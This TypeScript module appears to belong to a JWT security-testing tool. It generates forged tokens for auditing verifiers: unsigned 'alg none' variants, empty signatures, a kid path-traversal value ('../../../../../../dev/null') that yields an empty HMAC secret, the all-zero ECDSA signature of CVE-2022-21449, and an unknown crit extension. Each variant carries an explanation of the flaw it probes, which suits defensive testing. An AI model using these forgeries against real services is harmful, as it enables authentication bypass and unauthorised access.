// Variants that need no key: the header's alg set to "none" (each spelling), the signature
// dropped, the kid pointed at /dev/null (HMAC with an empty secret), the psychic ECDSA
// signature, and a `crit` extension nobody implements.
import { jwsAlgorithmOf } from '../algorithms';
import { hmacSha2 } from '../crypto/hmac';
import type { AttackName, Variant } from '../report';
import { compact, headerWith, signingInput, type ForgeInput } from './input';

const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

export const KID_TRAVERSAL = '../../../../../../dev/null';
export const CRIT_EXTENSION = 'http://attacker.example/must-understand';

/** Signs a header segment with the key given to forge(), when it can sign this alg. */
export type Resign = (alg: string, header: string) => Promise<Uint8Array | undefined>;

export function noneVariants(input: ForgeInput): Variant[] {
  return NONE_SPELLINGS.map((alg) => ({
    attack: `alg-none:${alg}` as AttackName,
    token: compact(input, headerWith(input, { alg }), ''),
    rule: alg === 'none' ? 'alg-none' : 'alg-none-variant',
    explanation:
      alg === 'none'
        ? 'A verifier that lets the header choose the algorithm accepts these claims with no signature at all.'
        : `A verifier that blocks only the exact word "none" but then reads "${alg}" case-insensitively accepts these claims unsigned.`,
  }));
}

/** The original header (an alg other than none) with the signature segment left empty. */
export function emptySignature(input: ForgeInput): Variant {
  const keepsAlg = jwsAlgorithmOf(input.alg) !== undefined;
  return {
    attack: 'empty-signature',
    token: compact(input, keepsAlg ? input.headerSegment : headerWith(input, { alg: 'HS256' }), ''),
    rule: 'sig-empty',
    explanation: 'A verifier that compares only as many signature bytes as were sent, or treats an empty signature as none, accepts these claims unsigned.',
  };
}

export function kidTraversal(input: ForgeInput): Variant {
  const header = headerWith(input, { alg: 'HS256', kid: KID_TRAVERSAL });
  const signature = hmacSha2('SHA-256', new Uint8Array(), signingInput(input, header));
  return {
    attack: 'kid-traversal',
    token: compact(input, header, signature),
    rule: 'kid-injection',
    explanation: 'A verifier that reads the HMAC secret from the file the kid names reads the empty /dev/null and accepts this token signed with an empty secret.',
  };
}

/** ES* only: r = s = 0 at the algorithm's signature length (CVE-2022-21449). */
export function psychicSignature(input: ForgeInput): Variant | undefined {
  const info = jwsAlgorithmOf(input.alg);
  if (info?.family !== 'ECDSA' || !info.signatureLength) return undefined;
  return {
    attack: 'psychic-signature',
    token: compact(input, input.headerSegment, new Uint8Array(info.signatureLength)),
    rule: 'ecdsa-psychic-signature',
    explanation: 'A verifier with the Java 15 to 18 ECDSA bug (CVE-2022-21449) accepts the all-zero signature r = s = 0 for any claims and any key.',
  };
}

/** `crit` names an extension nobody implements; re-signed when the key given can sign. */
export async function critUnknown(input: ForgeInput, resign: Resign): Promise<Variant> {
  const header = headerWith(input, { crit: [CRIT_EXTENSION], [CRIT_EXTENSION]: true });
  const signature = (await resign(input.alg, header)) ?? input.signatureSegment;
  return {
    attack: 'crit-unknown',
    token: compact(input, header, signature),
    rule: 'crit-unknown',
    explanation: 'A verifier that ignores the extensions `crit` says it must understand accepts a token that every conforming verifier rejects.',
  };
}
